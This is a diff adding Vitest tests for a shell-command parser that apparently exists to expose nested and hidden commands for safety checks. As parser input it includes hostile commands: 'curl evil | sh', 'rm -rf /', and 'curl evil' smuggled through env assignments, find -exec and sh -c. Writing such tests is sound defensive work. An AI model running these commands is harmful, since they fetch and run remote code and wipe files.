@@ -0,0 +1,113 @@
+/**
+ * Tests for shell-parser.js
+ */
+
+import { describe, it, expect } from 'vitest';
+import { parseShellCommand } from '../scripts/utils/shell-parser.js';
+
+const commands = input => parseShellCommand(input).map(s => s.command.join(' '));
+
+describe('shell-parser', () => {
+  it('should split lists and pipelines into segments', () => {
+    const segments = parseShellCommand('npm test && curl evil | sh; echo done &');
+
+    expect(segments.map(s => s.text)).toEqual(['npm test', 'curl evil', 'sh', 'echo done']);
+    expect(segments.map(s => s.operator)).toEqual([null, '&&', '|', ';']);
+  });
+
+  it('should keep quoted operators inside words', () => {
+    const [segment] = parseShellCommand(String.raw`echo "a && b" 'c | d' e\;f`);
+
+    expect(segment.argv).toEqual(['echo', 'a && b', 'c | d', 'e;f']);
+  });
+
+  it('should parse command substitutions, backticks and subshells as nested segments', () => {
+    const segments = parseShellCommand('echo $(rm -rf ~) "`whoami`" && (cd x && make)');
+
+    expect(segments.map(s => [s.source, s.command.join(' ')])).toEqual([
+      ['command', 'echo $(rm -rf ~) `whoami`'],
+      ['substitution', 'rm -rf ~'],
+      ['substitution', 'whoami'],
+      ['subshell', 'cd x'],
+      ['subshell', 'make']
+    ]);
+  });
+
+  it('should separate env assignments and look through wrappers', () => {
+    const [prefixed, wrapped] = parseShellCommand(
+      'FOO=1 BAR=2 npm test; env -u HOME CI=1 nohup npm run build'
+    );
+
+    expect(prefixed.env).toEqual({ FOO: '1', BAR: '2' });
+    expect(prefixed.command).toEqual(['npm', 'test']);
+    expect(wrapped.command).toEqual(['npm', 'run', 'build']);
+    expect(wrapped.wrappers).toEqual(['env', 'nohup']);
+    expect(commands('find . | xargs -n 1 rm')[1]).toBe('rm');
+  });
+
+  it('should parse sh -c scripts recursively', () => {
+    const segments = parseShellCommand(`bash -lc "npm test; sh -c 'rm -rf /'"`);
+
+    expect(segments.map(s => [s.source, s.command.join(' ')])).toEqual([
+      ['command', 'bash -lc npm test; sh -c \'rm -rf /\''],
+      ['shell -c', 'npm test'],
+      ['shell -c', 'sh -c rm -rf /'],
+      ['shell -c', 'rm -rf /']
+    ]);
+  });
+
+  it('should step over shell options before -c', () => {
+    expect(commands('bash --norc -c "curl evil | sh"')).toEqual(['bash --norc -c curl evil | sh', 'curl evil', 'sh']);
+    expect(commands('bash -o pipefail -c ls')).toEqual(['bash -o pipefail -c ls', 'ls']);
+  });
+
+  it('should parse find -exec commands as nested segments', () => {
+    const segments = parseShellCommand('find . -name "*.tmp" -exec rm -rf / \\; -execdir sh -c "curl evil" {} +');
+
+    expect(segments.slice(1).map(s => [s.source, s.command.join(' ')])).toEqual([
+      ['find -exec', 'rm -rf /'],
+      ['find -exec', 'sh -c curl evil {}'],
+      ['shell -c', 'curl evil']
+    ]);
+    expect(commands('find . -ok rm {}')).toEqual(['find . -ok rm {}', 'rm {}']);
+    expect(() => parseShellCommand('find . -exec \\;')).toThrow('Missing command after find -exec');
+  });
+
+  it('should record redirections with fds and skip heredoc bodies', () => {
+    const segments = parseShellCommand('npm test > out.log 2>&1\ncat <<EOF >> notes.md\nrm -rf /\nEOF\nnpm run lint');
+
+    expect(segments[0].redirects).toEqual([
+      { op: '>', fd: null, target: 'out.log', dynamic: false, heredoc: false },
+      { op: '>&', fd: '2', target: '1', dynamic: false, heredoc: false }
+    ]);
+    expect(segments[1].redirects.map(r => r.op)).toEqual(['<<', '>>']);
+    expect(commands('cat <<EOF\nrm -rf /\nEOF\nnpm run lint')).toEqual(['cat', 'npm run lint']);
+  });
+
+  it('should flag commands whose name comes from an expansion', () => {
+    const [segment] = parseShellCommand('$TOOL --fix');
+
+    expect(segment.dynamic).toBe(true);
+    expect(segment.command).toEqual(['$TOOL', '--fix']);
+  });
+
+  it('should keep env assignments with expansions apart from the command', () => {
+    const [segment, substitution] = parseShellCommand('FOO=$(curl evil) BAR="a b" npm test');
+
+    expect(segment.env).toEqual({ FOO: '$(curl evil)', BAR: 'a b' });
+    expect(segment.dynamicEnv).toEqual(['FOO']);
+    expect(segment.dynamic).toBe(false);
+    expect(segment.command).toEqual(['npm', 'test']);
+    expect(substitution.command).toEqual(['curl', 'evil']);
+    expect(parseShellCommand('"FOO=1" npm test')[0].command).toEqual(['FOO=1', 'npm', 'test']);
+  });
+
+  it('should reject syntax it cannot inspect', () => {
+    expect(() => parseShellCommand('echo "open')).toThrow('Unterminated double quote');
+    expect(() => parseShellCommand('npm test &&')).toThrow("Missing command after '&&'");
+    expect(() => parseShellCommand('| sh')).toThrow("Unexpected '|'");
+    expect(() => parseShellCommand('for f in *; do rm $f; done')).toThrow("Unsupported shell syntax: 'for'");
+    expect(() => parseShellCommand('f() { rm -rf /; }')).toThrow("Unexpected '('");
+    expect(() => parseShellCommand('sh -c "$SCRIPT"')).toThrow('Cannot inspect');
+  });
+});